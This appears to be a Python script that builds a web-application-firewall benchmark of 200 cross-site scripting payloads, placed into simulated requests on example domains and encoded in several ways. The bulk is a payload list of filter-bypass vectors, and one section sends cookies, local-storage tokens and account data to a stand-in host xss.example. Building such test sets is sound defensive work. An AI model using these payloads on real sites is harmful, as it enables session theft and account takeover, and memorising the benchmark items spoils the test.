"""xss_bypass.jsonl: 200 hand-written cross-site scripting attacks in WAF-bypass style.

Uncommon tags and events, javascript:/data: URIs with tabs, newlines and entities,
attribute and JS-string breakouts, no-parentheses calls, property-access tricks,
eval/atob, constructor.constructor and client-side template injection, mXSS
nesting, SVG and MathML, legacy CSS vectors and exfiltration payloads. Each payload
is placed in one request part and transport-encoded (see ``_attack.py``).
Run: ``.venv/bin/python benchmarks/handmade/build_xss.py``.
"""

from __future__ import annotations

import re

from _attack import AttackSet, schedule
from _common import UA, write_set

HTML, ATTR, JS, URL = "html", "attr", "js", "url"

PAYLOADS: list[str | tuple[str, dict[str, str]]] = [
    # --- uncommon tags and events ---------------------------------------------------------
    "<details open ontoggle=alert(1)>",
    "<details/open/ontoggle=\"alert`1`\">",
    "<svg><animate onbegin=alert(document.domain) attributeName=x dur=1s>",
    "<svg><set onbegin=alert(1) attributename=x to=1>",
    "<video><source onerror=\"javascript:alert(1)\">",
    "<audio src=x onerror=alert(document.cookie)>",
    "<marquee onstart=alert(1)>hi</marquee>",
    "<marquee loop=1 width=0 onfinish=confirm(1)>x</marquee>",
    "<body onpageshow=alert(1)>",
    "<body onload=alert(String.fromCharCode(88,83,83))>",
    "<input autofocus onfocus=alert(1)>",
    "<select autofocus onfocus=alert(document.domain)>",
    "<textarea autofocus onfocus=prompt(1)>",
    "<iframe srcdoc=\"<img src=x onerror=alert(parent.document.domain)>\">",
    "<object data=\"javascript:alert(1)\">",
    "<embed src=\"javascript:alert(1)\">",
    "<isindex type=image src=1 onerror=alert(1)>",
    "<form><button formaction=javascript:alert(1)>click</button></form>",
    "<math><maction actiontype=statusline xlink:href=javascript:alert(1)>click<mtext>x</mtext></maction></math>",
    "<img src=x onerror=alert(1)//",
    "<image src/onerror=prompt(8)>",
    "<svg/onload=alert(1)>",
    "<div onpointerover=\"alert(45)\">MOVE HERE</div>",
    "<a onmouseover=alert(document.cookie)>xxs link</a>",
    "<x contenteditable onblur=alert(1)>lose focus!",
    "<style>@keyframes x{}</style><xss style=\"animation-name:x\" onanimationstart=\"alert(1)\"></xss>",
    "<xss id=x tabindex=1 onfocusin=alert(1)></xss>",
    "<p onbeforecopy=alert(1) contenteditable>copy me</p>",
    "<link rel=import href=\"data:text/html,<script>alert(1)</script>\">",
    "<table background=\"javascript:alert(1)\">",
    "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">",
    "<base href=\"javascript:alert(1)//\">",
    "<frameset onload=alert(1)>",
    "<body onhashchange=alert(1)><a href=#x>click</a>",
    "<body onscroll=alert(1) style=height:3000px><input autofocus>",
    "<video controls autoplay onplay=alert(1)><source src=x.mp4></video>",
    "<audio autoplay onloadstart=alert(1) src=x>",
    "<img srcset=x onerror=alert(1)>",
    "<picture><source srcset=x><img onerror=alert(1)></picture>",
    "<input type=image src onerror=alert(1)>",
    "<div draggable=true ondragstart=alert(1)>drag me</div>",
    "<body onbeforeprint=alert(1)>",
    "<button popovertarget=x>Click</button><input type=hidden popover id=x onbeforetoggle=alert(1)>",
    "<img src=x:alert(alt) onerror=eval(src) alt=xss>",
    "<bgsound src=\"javascript:alert(1);\">",
    "<iframe src=javascript:alert(1)>",
    "<x onclick=alert(1)>click",
    "<svg onload=alert(1)//",
    "<ScRiPt>alert(1)</sCrIpT>",
    "<script>alert(document.cookie)</script>",
    "<script src=//xss.example/p.js></script>",
    # --- javascript: / data: / vbscript: URIs -----------------------------------------------
    "javascript:alert(1)",
    "java\tscript:alert(1)",
    "jav&#x09;ascript:alert(1)",
    "java\nscript:alert(document.domain)",
    "&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)",
    "  javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "javascript&colon;alert(1)",
    "jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk=alert() )//%0D%0A%0d%0a//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=alert()//>\\x3e",
    "javascript://%0aalert(document.cookie)",
    "javascript:window.onerror=alert;throw 1",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "data:text/html,<script>alert(document.domain)</script>",
    "data:image/svg+xml,<svg onload=alert(1)>",
    "javascript:eval(atob('YWxlcnQoZG9jdW1lbnQuY29va2llKQ=='))",
    "javascript:fetch('//x.example?'+document.cookie)",
    "vbscript:msgbox(1)",
    "javascript:top['al'+'ert'](1)",
    "java&Tab;script:alert(1)",
    "javascript:\\u0061lert(1)",
    "javascript:/**/alert?.(1)",
    "jaVaSCRipt:confirm`1`",
    "data:,alert(1)",
    # --- attribute breakouts ----------------------------------------------------------------
    "\"><svg onload=alert(1)>",
    "'><img src=x onerror=alert(1)>",
    "\" autofocus onfocus=alert(1) x=\"",
    "' onmouseover='alert(1)",
    "x\" onpointerenter=alert`1` x=\"",
    "\"><details open ontoggle=confirm(1)>",
    "\" style=\"animation-name:rotation\" onanimationstart=\"alert(1)",
    "x\" accesskey=\"X\" onclick=\"alert(1)",
    "\"/><script>alert(1)</script>",
    "' style=position:fixed;top:0;left:0;width:100%;height:100% onmouseover=alert(1) x='",
    "\"></a><a href=javascript:alert(1)>x</a>",
    "\"><iframe src=\"javascript:alert(`xss`)\">",
    "\"><script>alert(String.fromCharCode(88,83,83))</script>",
    "\" onfocus=\"alert(document.domain)\" autofocus=\"",
    "'/onmouseover=alert(1)//",
    "\"onmouseover=alert(1)//",
    # --- JavaScript-context breakouts -------------------------------------------------------
    "';alert(1)//",
    "\";alert(document.domain);//",
    "'-alert(1)-'",
    "\\';alert(1)//",
    "</script><svg onload=alert(1)>",
    "</script><script>alert(1)</script>",
    "'};alert(1);{'",
    "${alert(1)}",
    "`;alert(1);`",
    "\"+alert(1)+\"",
    "');alert(String.fromCharCode(88,83,83));//",
    "</script><img src=1 onerror=alert(1)>",
    "alert(document.domain);//",
    "'+confirm(1)+'",
    "\\\";alert(1);//",
    "';window['al'+'ert'](1);var x='",
    # --- no-parentheses calls ------------------------------------------------------------------
    "<img src=x onerror=alert`1`>",
    "<svg onload=\"onerror=alert;throw 1\">",
    "<img src=x onerror=\"window.onerror=alert;throw document.cookie\">",
    "<script>{onerror=alert}throw 1337</script>",
    "<img src=x onerror=location='javascript:alert%281%29'>",
    "<img src=x onerror=\"location='javas'+'cript:al'+'ert(1)'\">",
    "<svg onload=setTimeout`alert\\x281\\x29`>",
    "<svg onload=[1].find(alert)>",
    "<svg onload=[].map.call`${eval}\\x61lert\\x281\\x29`>",
    "<img src onerror=import('//xss.example/m.js')>",
    "<svg onload=\"throw/**/onerror=alert,'x'\">",
    # --- property access / string building ------------------------------------------------------
    "<svg onload=top['al'+'ert'](1)>",
    "<img src=x onerror=window['ale'+'rt'](document['coo'+'kie'])>",
    "<svg onload=self[`al`+`ert`]`1`>",
    "<img src=x onerror=this[/*foo*/'ale'+/*bar*/'rt'](1)>",
    "<svg onload=globalThis[String.fromCharCode(97,108,101,114,116)](1)>",
    "<img src=x onerror=parent[atob('YWxlcnQ=')](1)>",
    "<svg onload=frames[`a`.concat`lert`](1)>",
    # --- eval / atob / escapes ---------------------------------------------------------------------
    "<img src=x onerror=eval(atob('YWxlcnQoZG9jdW1lbnQuZG9tYWluKQ=='))>",
    "<svg onload=eval(atob`ZmV0Y2goJy8veC5leGFtcGxlLz9jPScrZG9jdW1lbnQuY29va2llKQ==`)>",
    "<script>eval(String.fromCharCode(97,108,101,114,116,40,49,41))</script>",
    "<img src=x onerror=eval('\\x61\\x6c\\x65\\x72\\x74\\x28\\x31\\x29')>",
    "<img src=x onerror=eval(decodeURIComponent('%61%6c%65%72%74%28%31%29'))>",
    "<svg onload=eval(location.hash.substr(1))>",
    "<img src=1 onerror=eval(unescape(/%61%6c%65%72%74%28%31%29/.source))>",
    "<img src=x onerror=\\u0061lert(1)>",
    "<img src=x onerror=\"&#97;&#108;&#101;&#114;&#116;&#40;&#49;&#41;\">",
    # --- constructor.constructor / client-side template injection ---------------------------------
    "{{constructor.constructor('alert(1)')()}}",
    "<img src=x onerror=[].constructor.constructor('alert(1)')()>",
    "<svg onload=''.sub.constructor('alert(document.cookie)')()>",
    "{{'a'.constructor.prototype.charAt=[].join;$eval('x=1} } };alert(1)//');}}",
    "{{$on.constructor('alert(1)')()}}",
    "{{x = {'y':''.constructor.prototype}; x['y'].charAt=[].join;$eval('x=alert(1)');}}",
    "{{_c.constructor('alert(1)')()}}",
    "<div v-html=\"''.constructor.constructor('alert(1)')()\">a</div>",
    "{{$eval.constructor('alert(document.domain)')()}}",
    "<div ng-app ng-csp><div ng-focus=\"x=$event.view.window;x.alert(1)\" tabindex=0 autofocus>x</div></div>",
    "{{toString.constructor.prototype.toString=toString.constructor.prototype.call;[\"a\",\"alert(1)\"].sort(toString.constructor)}}",
    "[[constructor.constructor('alert(1)')()]]",
    # --- mXSS / parser-differential nesting --------------------------------------------------------
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;/mglyph&gt;&lt;img&Tab;src=1&Tab;onerror=alert(1)&gt;\">",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<listing>&lt;img src=1 onerror=alert(1)&gt;</listing>",
    "<xmp><p title=\"</xmp><svg/onload=alert(1)>\">",
    "<title><a title=\"</title><img src=x onerror=alert(1)>\">",
    "<textarea><img title=\"</textarea><img src=x onerror=alert(1)>\"></textarea>",
    "<!--<img src=\"--><img src=x onerror=alert(1)//\">",
    "<style><!--</style><script>alert(1)//--></script>",
    "<a href=\"&#x6a;avascript:alert(1)\">x</a>",
    "<<script>alert(1);//<</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    # --- SVG / MathML ----------------------------------------------------------------------------------
    "<svg><a xlink:href=\"javascript:alert(1)\"><text x=\"20\" y=\"20\">XSS</text></a></svg>",
    "<svg><script>alert&#40;1&#41;</script>",
    "<svg><script href=data:,alert(1) />",
    "<svg><use href=\"data:image/svg+xml;base64,PHN2ZyBpZD0neCcgeG1sbnM9J2h0dHA6Ly93d3cudzMub3JnLzIwMDAvc3ZnJz48aW1hZ2UgaHJlZj0nMScgb25lcnJvcj0nYWxlcnQoMSknLz48L3N2Zz4=#x\" />",
    "<svg><foreignObject><iframe onload=alert(1)></iframe></foreignObject></svg>",
    "<svg><discard onbegin=alert(1)>",
    "<svg><animate xlink:href=#xss attributeName=href values=javascript:alert(1) /><a id=xss><text x=20 y=20>XSS</text></a>",
    "<svg><a><animate attributeName=href values=javascript:alert(1) /><text x=20 y=20>Click</text></a>",
    "<math href=\"javascript:javascript:alert(1)\">CLICKME</math>",
    "<svg xmlns=\"http://www.w3.org/2000/svg\"><script>alert(document.domain)</script></svg>",
    "<svg><handler xmlns:ev=\"http://www.w3.org/2001/xml-events\" ev:event=\"load\">alert(1)</handler></svg>",
    "<svg><image href=1 onerror=alert(1) />",
    "<svg><animatetransform onbegin=alert(1) attributeName=transform>",
    "<svg onload=alert&#40;1&#41;>",
    "<svg><a href=\"&#106;avascript&colon;alert&lpar;1&rpar;\"><text y=20>x</text></a></svg>",
    # --- data: frames and objects ----------------------------------------------------------------------
    "<iframe src=\"data:text/html;base64,PHNjcmlwdD5hbGVydChkb2N1bWVudC5kb21haW4pPC9zY3JpcHQ+\"></iframe>",
    "<object data=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\"></object>",
    "<embed src=\"data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+\">",
    "<a href=\"data:text/html,%3Cscript%3Ealert(1)%3C/script%3E\">click</a>",
    # --- spacing, quoting and case evasion -------------------------------------------------------------
    "<img/src=x/onerror=alert(1)>",
    "<img\nsrc=x\nonerror=alert(1)>",
    "<svg\x0conload=alert(1)>",
    "<img src=`x` onerror=`alert(1)`>",
    "<img src=\"x\" onerror  =  \"alert(1)\">",
    "<IMG SRC=# ONERROR=\"alert('XSS')\">",
    "<svg onload\n=alert(1)>",
    "<a href=\"javas&#99;ript:alert(1)\">x</a>",
    "<img\tsrc=x\tonerror=confirm(document.domain)>",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "＜script＞alert(1)＜/script＞",
    # --- legacy CSS vectors ---------------------------------------------------------------------------------
    "<div style=\"background-image:url(javascript:alert(1))\">",
    "<div style=\"width:expression(alert(1))\">",
    "<style>*{background:url('javascript:alert(1)')}</style>",
    # --- exfiltration / defacement -------------------------------------------------------------------------
    "<img src=x onerror=fetch('https://xss.example/c?'+document.cookie)>",
    "<script>new Image().src='//xss.example/?c='+encodeURIComponent(document.cookie)</script>",
    "<svg onload=navigator.sendBeacon('//xss.example',document.cookie)>",
    "<img src=x onerror=document.body.innerHTML='<h1>hacked</h1>'>",
    "<svg onload=document.location='//xss.example/?'+document.cookie>",
    "<script>fetch('/api/v1/users/me').then(r=>r.text()).then(t=>fetch('//xss.example/l',{method:'POST',body:t}))</script>",
    "<img src=x onerror=\"localStorage.getItem('token')&&fetch('//xss.example/t?'+localStorage.token)\">",
    "#<img src=x onerror=alert(1)>",
]

CTX = {
    "query": [
        ("www.example-store.com", "/search", "q", "sort=relevance", HTML),
        ("www.example-news.com", "/search", "query", "section=all", HTML),
        ("www.example-saas.io", "/error", "msg", "code=403", HTML),
        ("forum.example-board.org", "/search.php", "keywords", "sr=posts", HTML),
        ("www.example-blog.com", "/", "s", "", HTML),
        ("www.example-wiki.org", "/index.php", "title", "action=edit", HTML),
        ("www.example-jobs.com", "/jobs", "title", "location=Remote", HTML),
        ("www.example-store.com", "/account/login", "email", "step=2", ATTR),
        ("www.example-saas.io", "/signup", "plan", "billing=annual", ATTR),
        ("www.example-travel.com", "/hotels", "city", "checkin=2024-06-01", ATTR),
        ("www.example-news.com", "/article/10023", "utm_campaign", "utm_source=newsletter", ATTR),
        ("www.example-saas.io", "/login", "next", "", URL),
        ("www.example-store.com", "/redirect", "url", "src=email", URL),
        ("auth.example-saas.io", "/logout", "returnTo", "", URL),
        ("www.example-news.com", "/out", "link", "pos=3", URL),
        ("api.example-saas.io", "/v1/jsonp/user", "callback", "id=5", JS),
        ("www.example-store.com", "/track", "ref", "page=home", JS),
        ("www.example-saas.io", "/widget.js", "lang", "theme=light", JS),
        ("www.example-maps.com", "/embed", "label", "ll=40.7,-74.0", JS),
    ],
    "path": [
        ("www.example-store.com", "/search/{}", HTML),
        ("www.example-saas.io", "/u/{}/profile", HTML),
        ("www.example-news.com", "/tags/{}", HTML),
        ("www.example-blog.com", "/{}", HTML),
        ("docs.example-saas.io", "/en/{}", ATTR),
        ("www.example-wiki.org", "/wiki/{}", "*"),
    ],
    "form": [
        ("blog.greenleafcafe.com", "/wp-comments-post.php", "comment", "author=Sam¦email=sam@example.com¦comment_post_ID=1234", HTML),
        ("www.example-forum.net", "/threads/88213/reply", "message", "_xfToken=1713873600,ab12cd34", HTML),
        ("www.example-saas.io", "/contact", "message", "name=Alex¦email=alex@example.com", HTML),
        ("www.example-store.com", "/reviews/submit", "title", "product_id=1043¦rating=5", HTML),
        ("www.example-saas.io", "/settings/profile", "display_name", "csrfmiddlewaretoken=Xy12", ATTR),
        ("www.example-events.com", "/rsvp", "name", "event=77¦seats=2", ATTR),
        ("www.example-saas.io", "/settings/profile", "website", "bio=hi", URL),
        ("www.example-store.com", "/account/social", "homepage", "twitter=@me", URL),
        ("www.example-saas.io", "/search", "q", "scope=docs", JS),
        ("legacy.example-bank.com", "/feedback.jsp", "comments", "rating=4", HTML),
    ],
    "json": [
        ("api.example-saas.io", "/v1/users/me", {"profile": {"bio": "@@", "location": "Berlin"}}, HTML),
        ("api.example-saas.io", "/v1/tickets", {"ticket": {"subject": "Help", "comment": {"body": "@@"}}}, HTML),
        ("api.example-store.com", "/v2/reviews", {"review": {"rating": 5, "title": "@@"}}, HTML),
        ("app.example-chat.com", "/api/chat.postMessage", {"channel": "C04ABCDEF", "text": "@@"}, HTML),
        ("api.example-saas.io", "/v1/projects", {"project": {"name": "@@", "visibility": "private"}}, ATTR),
        ("api.example-saas.io", "/v1/links", {"link": {"title": "Docs", "href": "@@"}}, URL),
        ("api.example-saas.io", "/v1/users/me", {"profile": {"avatar_url": "@@"}}, URL),
        ("api.example-saas.io", "/v1/widgets", {"widget": {"config": {"onReady": "@@"}}}, JS),
        ("api.example-saas.io", "/v1/notes", {"note": {"markdown": "@@", "pinned": False}}, "*"),
    ],
    "multipart": [
        ("www.example-photos.com", "/upload", "caption", [("album", "Summer", None, None), ("photo", "\xff\xd8\xff\xe0...", "IMG_2041.jpg", "image/jpeg")], HTML),
        ("www.example-jobs.com", "/apply", "cover_letter", [("name", "Alex Kim", None, None), ("cv", "%PDF-1.4 ...", "cv.pdf", "application/pdf")], HTML),
        ("www.example-forum.net", "/attachments/upload", "filename_display", [("upload", "GIF89a...", "funny.gif", "image/gif")], ATTR),
        ("www.example-saas.io", "/settings/branding", "logo_link", [("logo", "\x89PNG...", "logo.png", "image/png")], URL),
    ],
    "cookie": [
        ("www.example-store.com", "/", "last_search", HTML),
        ("www.example-saas.io", "/dashboard", "username", HTML),
        ("www.example-news.com", "/", "theme", ATTR),
        ("www.example-saas.io", "/welcome", "lang", JS),
        ("www.example-store.com", "/account", "return_url", URL),
        ("www.example-forum.net", "/", "flash_message", "*"),
    ],
    "ua": [
        ("www.example-store.com", "/", "User-Agent", UA["chrome_win"] + " ", "*"),
        ("www.example-saas.io", "/pricing", "User-Agent", "", "*"),
        ("www.example-blog.com", "/contact", "User-Agent", "Mozilla/5.0 ", "*"),
    ],
    "referer": [
        ("www.example-store.com", "/checkout/thanks", "Referer", "https://www.example-store.com/cart?note=", "*"),
        ("www.example-news.com", "/article/10023", "Referer", "https://www.google.com/search?q=", "*"),
        ("www.example-saas.io", "/pricing", "Referer", "https://partner.example.net/out?title=", "*"),
    ],
    "xff": [
        ("www.example-saas.io", "/login", "X-Forwarded-For", "203.0.113.9", "*"),
        ("admin.example-store.com", "/admin/", "X-Forwarded-For", "10.0.0.7", "*"),
    ],
    "header": [
        ("api.example-saas.io", "/v1/items", "X-Request-Source", "", "*"),
        ("www.example-saas.io", "/support", "X-Forwarded-Host", "", "*"),
        ("app.example-saas.io", "/api/v1/me", "X-Client-Name", "", "*"),
        ("www.example-store.com", "/api/stock", "X-Wap-Profile", "", "*"),
    ],
}


def kind_of(p: str) -> str:
    low = p.lower().lstrip()
    if re.match(r"^(java|jav&|&#106|data:|vbscript:)", low):
        return URL
    if re.match(r"^(['\"\\`$]|alert\(|</script)", p) and not re.match(r"^['\"]/?>|^['\"]><|^\"/><", p):
        if re.match(r"^(['\"]\s?\w+=|x\"|'/on|\"on|\" )", p):
            return ATTR
        return JS
    if re.match(r"^(x\"|['\"]/?>)", p):
        return ATTR
    return HTML


TARGETS = {"query": 55, "path": 14, "form": 32, "json": 30, "multipart": 12, "cookie": 19, "ua": 10, "referer": 10, "xff": 8, "header": 10}
ENC_W = {"none": 0.33, "url": 0.25, "double": 0.1, "u": 0.08, "html": 0.08, "b64": 0.09, "jsonu": 0.07}

assert len(PAYLOADS) == len({p if isinstance(p, str) else p[0] for p in PAYLOADS}), "duplicate payload"
s = AttackSet(seed=9090, label="xss", contexts=CTX, kind_of=kind_of)
for payload, place, enc, opt in schedule(s.g, PAYLOADS, TARGETS, ENC_W):
    s.add(payload, place, enc, charset=opt.get("charset", "utf-8"))
print("placements", dict(s.place_count), "\nencodings", dict(s.enc_count))
write_set("xss_bypass.jsonl", s.rows, 200)
